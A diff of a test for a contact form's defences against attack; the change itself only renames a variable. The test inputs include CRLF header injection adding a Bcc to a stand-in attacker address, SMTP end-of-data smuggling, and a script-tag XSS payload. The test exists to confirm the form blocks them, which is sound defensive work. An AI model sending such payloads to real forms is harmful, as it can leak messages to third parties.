@@ -99,12 +99,12 @@ describe.skipIf(isSkipped)('an attack on the contact form', () => {
     const message = '.\r\nBcc: spy@evil.example\r\n\r\n<script>alert(1)</script>\r\n.\r\nQUIT'
     await write(hospital, { firstName: '"Bcc: spy@evil.example" <spy@evil.example>,', message })
 
-    const { letters } = await deliver(hospital, mailbox)
+    const { letters: mails } = await deliver(hospital, mailbox)
 
     expect(mailbox.recipients.splice(0)).toEqual([BILLING])
-    expect(letters).toHaveLength(1)
-    expect(letters[0]?.replyTo).toMatch(/<ravi@home\.example>$/)
-    expect(letters[0]?.body).toContain('<script>alert(1)</script>')
+    expect(mails).toHaveLength(1)
+    expect(mails[0]?.replyTo).toMatch(/<ravi@home\.example>$/)
+    expect(mails[0]?.body).toContain('<script>alert(1)</script>')
     const [head = ''] = mailbox.letters[0]?.split('\r\n\r\n') ?? []
     expect(head).toMatch(/^Content-Type: text\/plain/m)
     expect(head).not.toMatch(/^(Bcc|Cc):/im)
